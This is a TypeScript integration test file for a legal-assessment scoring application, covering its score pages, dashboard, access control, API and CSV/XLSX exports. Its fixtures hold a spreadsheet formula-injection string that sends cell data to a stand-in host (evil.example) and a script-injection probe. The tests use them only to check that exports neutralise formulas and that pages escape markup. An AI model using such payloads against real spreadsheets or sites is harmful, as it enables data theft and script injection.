import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'puppeteer-core';
import { createAssessment, createRound, loadRoundScores, loadSampleData, registerRubric, sampleAnswers } from '../../assessments/index.js';
import { loadDefaultRubric, type Answer, type CompiledRubric } from '../../rubric/index.js';
import { changeBetweenRounds, compareStates, scoreAssessment, type ScoreCard } from '../../scoring/index.js';
import { projectRoot } from '../../server/root.js';
import { launchBrowser } from '../support/browser.js';
import { createTestUser, signedInClient, TEST_PASSWORD, type Client } from '../support/client.js';
import { startTestApp, type TestApp } from '../support/http.js';

/** A legal excerpt a spreadsheet would run as a formula, with a comma, quotes and a line break. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click"), then\r\n"more"';
const SCRIPT = '<script>alert(1)</script>';

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

/** The figure as the pages show it. */
const shown = (score: number | null) => (score === null ? '–' : score.toFixed(1));

/** A small seeded generator, so the fixture's answers are the same on every run. */
function seeded(seed: number): () => number {
  let a = seed;
  return () => (a = (Math.imul(a, 1103515245) + 12345) >>> 0) / 4294967296;
}

describe('scores, dashboard and exports', function () {
  this.timeout(180_000);
  let app: TestApp;
  let rubric: CompiledRubric;
  let browser: Browser;
  let page: Page;
  let manager: Client;
  let roundId: number;
  let sampleRoundId: number;
  const ids: Record<string, number> = {};
  const answers: Record<string, Record<string, Answer>> = {};

  async function assess(code: string, doc: Record<string, Answer>, status: string): Promise<void> {
    const { id } = await createAssessment(app.store, { stateCode: code, roundId, rubricKey: rubric.key });
    await app.store.query(`INSERT INTO answers (assessment_id, indicator_id, document) SELECT $1, key, value FROM jsonb_each($2::jsonb)`, [id, JSON.stringify(doc)]);
    await app.store.query(`UPDATE assessments SET status = $2 WHERE id = $1`, [id, status]);
    ids[code] = id;
    answers[code] = doc;
  }

  before(async () => {
    app = await startTestApp('postgres');
    rubric = await loadDefaultRubric();
    await registerRubric(app.store, rubric);
    await loadSampleData(app.store, rubric);
    sampleRoundId = (await app.store.query<{ id: number }>(`SELECT id FROM rounds WHERE slug = 'sample-2025'`))[0]!.id;
    // A real round of four states: Fiji fully answered (approved), Tonga and Thailand generated, Viet Nam as Thailand.
    roundId = (await createRound(app.store, { slug: 'scores-fixture', title: 'Fixture round', startsOn: '2025-06-01' })).id;
    const file = path.join(projectRoot, 'test', 'fixtures', 'rubric', 'answers', 'complete-valid.json');
    const complete = (JSON.parse(readFileSync(file, 'utf8')) as { answers: Record<string, Answer> }).answers;
    complete['CRIM-ACTS'] = { ...complete['CRIM-ACTS']!, citations: [{ instrument: '@Penal Code', provision: '-s. 2', year: 2019, url: 'https://legislation.example.org/pc', excerpt: FORMULA, language: 'en' }] };
    complete['CRIM-OFFENCE'] = { ...complete['CRIM-OFFENCE']!, citations: [{ instrument: 'Penal Code', provision: 's. 1', excerpt: `${SCRIPT} Section 1.`, language: 'en' }] };
    await assess('FJ', complete, 'approved');
    await assess('TO', sampleAnswers(rubric, { level: 0.5, rnd: seeded(7), code: 'TO', name: 'Tonga', year: 2016 }), 'draft');
    await assess('TH', sampleAnswers(rubric, { level: 0.7, rnd: seeded(11), code: 'TH', name: 'Thailand', year: 2018 }), 'submitted');
    await assess('VN', answers.TH!, 'draft'); // the same answers as Thailand: a tie in the ranking
    manager = await signedInClient(app.url, app.store, 'programme_manager');

    browser = await launchBrowser();
    page = await browser.newPage();
    await page.setViewport({ width: 1280, height: 900 });
    const user = await createTestUser(app.store, 'programme_manager');
    await page.goto(`${app.url}/login`);
    await page.type('#field-email', user.email);
    await page.type('#field-password', TEST_PASSWORD);
    await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
  });
  after(async () => {
    await browser?.close();
    await app?.stop();
  });

  const cardOf = (code: string): ScoreCard => scoreAssessment(rubric, answers[code]!);
  const texts = (selector: string) => page.$$eval(selector, (els) => els.map((e) => (e.textContent ?? '').trim()));

  describe('the state scores page', () => {
    it('shows every figure as scoring computes it: indices, completeness, evidence, concerns, pillars, provisions', async () => {
      const card = cardOf('FJ');
      await page.goto(`${app.url}/assessments/${ids.FJ}/scores`);
      const figure = (id: string) => page.$eval(`[data-figure="${id}"]`, (e) => e.textContent?.trim());
      expect(await figure('overall')).to.equal(shown(card.overall.score));
      expect(await figure('good-practice')).to.equal(shown(card.goodPractice.score));
      expect(await figure('completeness')).to.equal(shown(card.completeness.score));
      expect(await figure('evidence')).to.equal(shown(card.evidence.score));
      expect(await figure('concern-forced-criminality')).to.equal(shown(card.concerns['forced-criminality'].score));
      expect(await figure('concern-non-punishment')).to.equal(shown(card.concerns['non-punishment'].score));
      expect(await figure('concern-technology')).to.equal(shown(card.concerns.technology.score));
      for (const p of card.pillars) expect(await page.$eval(`[data-pillar="${p.pillarId}"]`, (e) => e.textContent?.trim())).to.equal(shown(p.score));
      const provisions = await page.$$eval('[data-provision]', (els) => els.map((e) => [(e as HTMLElement).dataset.provision, e.textContent?.trim()]));
      expect(Object.fromEntries(provisions)).to.deep.equal(Object.fromEntries(card.provisions.map((p) => [p.provisionId, shown(p.score)])));
    });

    it('sets each pillar against the mean of the round\'s states, in the table and the radar chart', async () => {
      const cards = ['FJ', 'TH', 'TO', 'VN'].map(cardOf);
      await page.goto(`${app.url}/assessments/${ids.TO}/scores`);
      await page.waitForFunction('window.__reportReady === true', { timeout: 10_000 });
      const radar = JSON.parse(await page.$eval('#radar-chart', (e) => e.textContent)) as { data: { datasets: { data: (number | null)[] }[] } };
      cards[0]!.pillars.forEach((p, i) => {
        const mean = cards.reduce((sum, c) => sum + c.pillars[i]!.score!, 0) / cards.length;
        expect(radar.data.datasets[1]!.data[i]).to.be.closeTo(mean, 1e-9);
        expect(radar.data.datasets[0]!.data[i]).to.equal(cardOf('TO').pillars[i]!.score);
      });
      expect(await page.$$eval('canvas[data-chart]', (cs) => cs.every((c) => (c).width > 0))).to.equal(true);
    });

    it('explains a pillar by its answers: each one\'s summary, score and weight × factor', async () => {
      const card = cardOf('FJ');
      const pillar = card.pillars.find((p) => p.pillarId === 'criminalisation')!;
      await page.goto(`${app.url}/assessments/${ids.FJ}/scores`);
      const rows = await page.$$eval('#pillar-criminalisation > details.why tbody tr', (trs) => trs.map((tr) => [...tr.children].map((c) => (c.textContent ?? '').trim())));
      expect(rows.map((r) => r[0]!.split(' ')[0])).to.deep.equal(pillar.parts.map((p) => p.indicatorId));
      pillar.parts.forEach((p, i) => {
        expect(rows[i]![2]).to.equal(shown(100 * p.score));
        expect(rows[i]![3]).to.equal(`${p.weight} × ${p.factor}`);
      });
      const acts = rows.find((r) => r[0]!.startsWith('CRIM-ACTS'))!;
      expect(acts[1]).to.match(/^\d+ of \d+ elements: /);
    });

    it('lists the gaps by priority with the rubric\'s recommendation, and flags missing information', async () => {
      const card = cardOf('TO');
      await page.goto(`${app.url}/assessments/${ids.TO}/scores`);
      const treaty = card.gaps.filter((g) => g.kind === 'gap');
      const listed = await page.$$eval('ol.gap-list-treaty > li', (lis) => lis.map((li) => ({ id: li.querySelector('code')!.textContent, missing: !!li.querySelector('.tag-missing'), advice: li.querySelector('.recommendation')?.textContent ?? null })));
      expect(listed.map((l) => l.id)).to.deep.equal(treaty.map((g) => g.indicatorId));
      expect(listed.map((l) => l.missing)).to.deep.equal(treaty.map((g) => g.missingInformation));
      expect(listed.map((l) => l.advice)).to.deep.equal(treaty.map((g) => g.recommendation));
      expect(treaty.some((g) => g.missingInformation)).to.equal(true);
    });

    it('says a draft\'s scores are provisional, and an approved one\'s are not', async () => {
      const draft = await (await manager.get(`/assessments/${ids.TO}/scores`)).text();
      expect(draft).to.contain('notice-provisional');
      const approved = await (await manager.get(`/assessments/${ids.FJ}/scores`)).text();
      expect(approved).not.to.contain('notice-provisional');
      expect(approved).not.to.contain('SAMPLE');
    });

    it('marks a SAMPLE state SAMPLE and compares it with SAMPLE states only', async () => {
      const xa = (await app.store.query<{ id: number }>(`SELECT id FROM assessments WHERE state_code = 'XA' AND round_id = $1`, [sampleRoundId]))[0]!.id;
      const html = await (await manager.get(`/assessments/${xa}/scores`)).text();
      expect(html).to.contain('notice-sample');
      expect(html).to.contain('45 SAMPLE state(s)');
    });

    it('is linked from the assessment page', async () => {
      expect(await (await manager.get(`/assessments/${ids.FJ}`)).text()).to.contain(`href="/assessments/${ids.FJ}/scores"`);
    });

    it('keeps a legal excerpt\'s markup as text', async () => {
      const json = await (await manager.get(`/api/v1/assessments/${ids.FJ}/scores`)).text();
      expect(json).not.to.contain('<script>');
      const html = await (await manager.get(`/assessments/${ids.FJ}/scores`)).text();
      expect(html).not.to.contain(SCRIPT);
    });
  });

  describe('who may see scores', () => {
    it('answers 404 to a consultant or focal point of another state, page and API alike', async () => {
      for (const role of ['consultant', 'focal_point'] as const) {
        const other = await signedInClient(app.url, app.store, role, ['TO']);
        expect((await other.get(`/assessments/${ids.FJ}/scores`)).status, role).to.equal(404);
        expect((await other.get(`/api/v1/assessments/${ids.FJ}/scores`)).status, role).to.equal(404);
      }
      const own = await signedInClient(app.url, app.store, 'consultant', ['FJ']);
      expect((await own.get(`/assessments/${ids.FJ}/scores`)).status).to.equal(200);
    });

    it('answers 403 to consultants and focal points on the dashboard, the comparison API and every export', async () => {
      for (const role of ['consultant', 'focal_point'] as const) {
        const client = await signedInClient(app.url, app.store, role, ['FJ']);
        for (const url of ['dashboard', 'matrix.csv', 'matrix.xlsx', 'answers.csv', 'answers.xlsx']) {
          expect((await client.get(`/rounds/${roundId}/${url}`)).status, `${role} ${url}`).to.equal(403);
        }
        expect((await client.get(`/api/v1/rounds/${roundId}/comparison`)).status).to.equal(403);
      }
    });
  });

  describe('the API', () => {
    it('gives an assessment\'s score card as scoring computes it, with the regional statistics', async () => {
      const body = (await (await manager.get(`/api/v1/assessments/${ids.FJ}/scores`)).json()) as { card: ScoreCard; regional: { states: number; indices: Record<string, number> }; assessment: { provisional: boolean } };
      expect(body.card).to.deep.equal(JSON.parse(JSON.stringify(cardOf('FJ'))));
      expect(body.regional.states).to.equal(4);
      const mean = ['FJ', 'TH', 'TO', 'VN'].reduce((sum, code) => sum + cardOf(code).overall.score!, 0) / 4;
      expect(body.regional.indices.overall).to.be.closeTo(mean, 1e-9);
      // Means only: a minimum or maximum would give another state's score away.
      expect(JSON.stringify(body.regional)).not.to.match(/"(min|max|median|subregions)"/);
      expect(body.assessment.provisional).to.equal(false);
    });

    it('gives the round\'s comparison as the scoring core computes it, and the change from the previous round', async () => {
      const body = (await (await manager.get(`/api/v1/rounds/${roundId}/comparison`)).json()) as Record<string, unknown>;
      const states = { FJ: 'Fiji', TH: 'Thailand', TO: 'Tonga', VN: 'Viet Nam' };
      const subregions: Record<string, string> = { FJ: 'pacific', TH: 'south-east-asia', TO: 'pacific', VN: 'south-east-asia' };
      const expected = compareStates(Object.entries(states).map(([code, name]) => ({ state: { code, name, subregion: subregions[code]!, sample: false }, round: 'scores-fixture', card: cardOf(code) })));
      expect(body.comparison).to.deep.equal(JSON.parse(JSON.stringify(expected)));
      expect(body.change).to.equal(null);
      const sample = (await (await manager.get(`/api/v1/rounds/${sampleRoundId}/comparison`)).json()) as { change: { from: string; to: string } };
      expect(sample.change).to.include({ from: 'sample-2024', to: 'sample-2025' });
    });
  });

  describe('the dashboard', () => {
    it('prints each state\'s score on each provision in its heatmap cell, with a colour band', async () => {
      const scores = (await loadRoundScores(app.store, sampleRoundId, () => Promise.resolve(rubric)))!;
      const comparison = scores.comparison!;
      await page.goto(`${app.url}/rounds/${sampleRoundId}/dashboard`);
      const headers = await page.$$eval('.heatmap thead .provision-col > span:first-child', (ths) => ths.map((th) => th.textContent.trim()));
      expect([...headers].sort()).to.deep.equal([...comparison.provisions.columns].sort());
      const rows = await page.$$eval('.heatmap tbody tr', (trs) => trs.map((tr) => ({ name: tr.querySelector('th')!.textContent.replace('*', '').trim(), cells: [...tr.querySelectorAll('td.cell')].map((td) => ({ text: td.textContent.trim(), cls: td.className })) })));
      expect(rows).to.have.length(45);
      for (const row of comparison.provisions.rows) {
        const shownRow = rows.find((r) => r.name === row.state.name)!;
        headers.forEach((id, i) => {
          const value = row.values[comparison.provisions.columns.indexOf(id)] ?? null;
          const cell = shownRow.cells[i + 1]!;
          expect(cell.text, `${row.state.code} ${id}`).to.equal(value === null ? '–' : String(Math.round(value)));
          expect(cell.cls).to.match(value === null ? /band-none/ : value >= 100 ? /band-full/ : /band-[0-3]/);
        });
      }
      expect(await page.$$eval('.legend li', (lis) => lis.length)).to.equal(6);
      expect(await page.$eval('.heatmap caption', (c) => c.textContent)).to.contain('45 state(s) on 76 provision(s)');
    });

    it('narrows the rows to a sub-region and the columns to a pillar, with the filters shown as chosen', async () => {
      const scores = (await loadRoundScores(app.store, sampleRoundId, () => Promise.resolve(rubric)))!;
      const pacific = scores.cards.filter((c) => c.state.subregion === 'pacific').map((c) => c.state.name).sort();
      await page.goto(`${app.url}/rounds/${sampleRoundId}/dashboard?subregion=pacific&pillar=prevention`);
      const names = await texts('.heatmap tbody th');
      expect(names.map((n) => n.replace('*', '').trim()).sort()).to.deep.equal(pacific);
      const prevention = new Set(rubric.indicators.filter((i) => i.pillar === 'prevention' && i.questionType !== 'text').flatMap((i) => i.provisions));
      const columns = await texts('.heatmap thead .provision-col > span:first-child');
      expect(columns.length).to.be.greaterThan(0);
      for (const c of columns) expect(prevention.has(c), c).to.equal(true);
      expect(await page.$eval('#filter-subregion', (s) => (s as HTMLSelectElement).value)).to.equal('pacific');
      expect(await page.$eval('#filter-pillar', (s) => (s as HTMLSelectElement).value)).to.equal('prevention');
      const ranked = await texts('table.ranking tbody th');
      expect(ranked.sort()).to.deep.equal(pacific);
    });

    it('ranks as the scoring core does, lists the common gaps and the change since the previous round, and draws its chart', async () => {
      const now = (await loadRoundScores(app.store, sampleRoundId, () => Promise.resolve(rubric)))!;
      const before = (await loadRoundScores(app.store, now.round.previousRoundId!, () => Promise.resolve(rubric)))!;
      const change = changeBetweenRounds(before.comparison!, now.comparison!);
      await page.goto(`${app.url}/rounds/${sampleRoundId}/dashboard`);
      await page.waitForFunction('window.__reportReady === true', { timeout: 10_000 });
      const ranking = await page.$$eval('table.ranking tbody tr', (trs) => trs.map((tr) => [...tr.children].map((c) => c.textContent.trim())));
      expect(ranking.map((r) => [r[0], r[1], r[2]])).to.deep.equal(now.comparison!.ranking.map((r) => [String(r.rank), r.state.name, shown(r.score)]));
      const gaps = await page.$$eval('ol.common-gaps > li code', (cs) => cs.map((c) => c.textContent));
      expect(gaps).to.deep.equal(now.comparison!.commonGaps.slice(0, gaps.length).map((g) => g.provisionId));
      const deltas = await page.$$eval('table.changes tbody tr', (trs) => trs.map((tr) => tr.querySelectorAll('td')[2]!.textContent.trim()));
      expect(deltas).to.deep.equal(change.states.map((s) => `${s.overall.delta! > 0 ? '+' : s.overall.delta! < 0 ? '−' : '±'}${Math.abs(s.overall.delta!).toFixed(1)}`));
      for (const f of ['matrix.csv', 'matrix.xlsx', 'answers.csv', 'answers.xlsx']) expect(await page.$(`a[href="/rounds/${sampleRoundId}/${f}"]`), f).not.to.equal(null);
    });

    it('shows tied states with the same rank', async () => {
      await page.goto(`${app.url}/rounds/${roundId}/dashboard`);
      const ranking = await page.$$eval('table.ranking tbody tr', (trs) => trs.map((tr) => [tr.children[0]!.textContent.trim(), tr.children[1]!.textContent.trim()]));
      const rankOf = new Map(ranking.map(([rank, name]) => [name, rank]));
      expect(rankOf.get('Thailand')).to.equal(rankOf.get('Viet Nam'));
      expect(ranking.map(([rank]) => rank)).to.deep.equal(compareStates(['FJ', 'TH', 'TO', 'VN'].map((code) => ({ state: { code, name: code, subregion: 'x' }, round: 'r', card: cardOf(code) }))).ranking.map((r) => String(r.rank)));
    });

    it('works without JavaScript: the filters are a GET form and the round switcher plain links', async () => {
      const html = await (await manager.get(`/rounds/${sampleRoundId}/dashboard?pillar=prevention`)).text();
      expect(html).to.match(new RegExp(`<form method="get" action="/rounds/${sampleRoundId}/dashboard"`));
      expect(html).to.contain('<label for="filter-subregion">');
      expect(html).to.match(/<a href="\/rounds\/\d+\/dashboard\?pillar(=|&#x3D;)prevention" aria-current="page">SAMPLE round 2025<\/a>/);
    });

    it('says so when a round has no assessment yet, and exports only the header', async () => {
      const empty = await createRound(app.store, { slug: 'scores-empty', title: 'Empty round', startsOn: '2020-01-01' });
      const res = await manager.get(`/rounds/${empty.id}/dashboard`);
      expect(res.status).to.equal(200);
      expect(await res.text()).to.contain('No state has an assessment in this round yet');
      expect(parseCsv((await (await manager.get(`/rounds/${empty.id}/answers.csv`)).text()).replace(/^\uFEFF/, ''))).to.have.length(1);
      expect((await manager.get(`/rounds/999999/dashboard`)).status).to.equal(404);
    });

    it('sends managers from the Dashboard link to the latest real round', async () => {
      const res = await manager.get('/dashboard');
      expect(res.status).to.equal(303);
      expect(res.headers.get('location')).to.equal(`/rounds/${roundId}/dashboard`);
    });
  });

  describe('exports', () => {
    it('writes the matrix as UTF-8 CSV with a BOM: states by rank, with sub-region, indices, pillars and provisions', async () => {
      const res = await manager.get(`/rounds/${roundId}/matrix.csv`);
      expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename=round-scores-fixture-matrix.csv');
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
      const [header, ...rows] = parseCsv(new TextDecoder().decode(bytes.slice(3)));
      expect(header!.slice(0, 8)).to.deep.equal(['Rank', 'State code', 'State', 'Sub-region', 'Sample', 'Assessment status', 'Treaty index', 'Good-practice index']);
      expect(rows.map((r) => r[1])).to.have.members(['FJ', 'TH', 'TO', 'VN']);
      // Equal scores share a rank, and the next rank skips (1, 2, 2, 4).
      const th = rows.find((r) => r[1] === 'TH')!;
      expect(rows.find((r) => r[1] === 'VN')![0]).to.equal(th[0]);
      expect(rows.map((r) => r[0]).sort()).to.satisfy((ranks: string[]) => new Set(ranks).size === 3);
      const fj = rows.find((r) => r[1] === 'FJ')!;
      const card = cardOf('FJ');
      const at = (column: string) => fj[header!.indexOf(column)];
      expect(Number(at('Treaty index'))).to.equal(Math.round(card.overall.score! * 10) / 10);
      expect(Number(at('TIP.5.1'))).to.equal(Math.round(card.provisions.find((p) => p.provisionId === 'TIP.5.1')!.score! * 10) / 10);
      expect(Number(at('Pillar: criminalisation'))).to.equal(Math.round(card.pillars[0]!.score! * 10) / 10);
      expect(at('Sub-region')).to.equal('Pacific');
    });

    it('writes every answer and citation as CSV, neutralising formulas and keeping excerpts verbatim', async () => {
      const res = await manager.get(`/rounds/${roundId}/answers.csv`);
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename=round-scores-fixture-answers.csv');
      const text = (await res.text()).replace(/^\uFEFF/, '');
      const [header, ...rows] = parseCsv(text);
      expect(header).to.include.members(['State code', 'Indicator', 'Pillar', 'Answer status', 'Value', 'Finding', 'Score', 'Instrument', 'Section', 'Year', 'Link', 'Excerpt']);
      const col = (name: string) => header!.indexOf(name);
      const acts = rows.find((r) => r[col('State code')] === 'FJ' && r[col('Indicator')] === 'CRIM-ACTS')!;
      expect(acts[col('Excerpt')]).to.equal(`'${FORMULA}`);
      expect(acts[col('Instrument')]).to.equal("'@Penal Code");
      expect(acts[col('Section')]).to.equal("'-s. 2");
      expect(acts[col('Year')]).to.equal('2019');
      const offence = rows.find((r) => r[col('State code')] === 'FJ' && r[col('Indicator')] === 'CRIM-OFFENCE')!;
      expect(offence[col('Excerpt')]).to.equal(`${SCRIPT} Section 1.`);
      // One row per answer without a citation, one per citation otherwise.
      const perState = rows.filter((r) => r[col('State code')] === 'TO');
      const citations = Object.values(answers.TO!).reduce((n, a) => n + Math.max(1, a.citations?.length ?? 0), 0);
      expect(perState).to.have.length(citations + rubric.indicators.filter((i) => !answers.TO![i.id]).length);
      const score = cardOf('FJ').indicators.find((i) => i.indicatorId === 'CRIM-ACTS')!.score!;
      expect(Number(acts[col('Score')])).to.equal(Math.round(score * 1000) / 10);
    });

    it('writes the same tables as XLSX that exceljs reads back, text cells staying text', async () => {
      const res = await manager.get(`/rounds/${roundId}/answers.xlsx`);
      expect(res.headers.get('content-type')).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename=round-scores-fixture-answers.xlsx');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(await res.arrayBuffer());
      const sheet = book.getWorksheet('Answers')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const found: { excerpt?: unknown; type?: number } = {};
      sheet.eachRow((row, n) => {
        if (n === 1) return;
        if (row.getCell(1).value === 'FJ' && row.getCell(header.indexOf('Indicator') + 1).value === 'CRIM-ACTS') {
          const cell = row.getCell(header.indexOf('Excerpt') + 1);
          found.excerpt = cell.value;
          found.type = cell.type;
        }
      });
      expect(found.excerpt).to.equal(FORMULA);
      expect(found.type).to.equal(ExcelJS.ValueType.String);

      const matrix = new ExcelJS.Workbook();
      await matrix.xlsx.load(await (await manager.get(`/rounds/${roundId}/matrix.xlsx`)).arrayBuffer());
      const m = matrix.getWorksheet('Matrix')!;
      const mh = (m.getRow(1).values as unknown[]).slice(1);
      expect(m.rowCount).to.equal(5);
      let fjIndex: unknown = null;
      m.eachRow((row, n) => {
        if (n > 1 && row.getCell(2).value === 'FJ') fjIndex = row.getCell(mh.indexOf('Treaty index') + 1).value;
      });
      expect(fjIndex).to.equal(Math.round(cardOf('FJ').overall.score! * 10) / 10);
    });

    it('marks the exports of a SAMPLE round SAMPLE, in the file name and in each row', async () => {
      const res = await manager.get(`/rounds/${sampleRoundId}/matrix.csv`);
      expect(res.headers.get('content-disposition')).to.equal('attachment; filename=SAMPLE-round-sample-2025-matrix.csv');
      const [header, ...rows] = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
      expect(rows).to.have.length(45);
      expect(new Set(rows.map((r) => r[header!.indexOf('Sample')]))).to.deep.equal(new Set(['SAMPLE']));
    });
  });
});
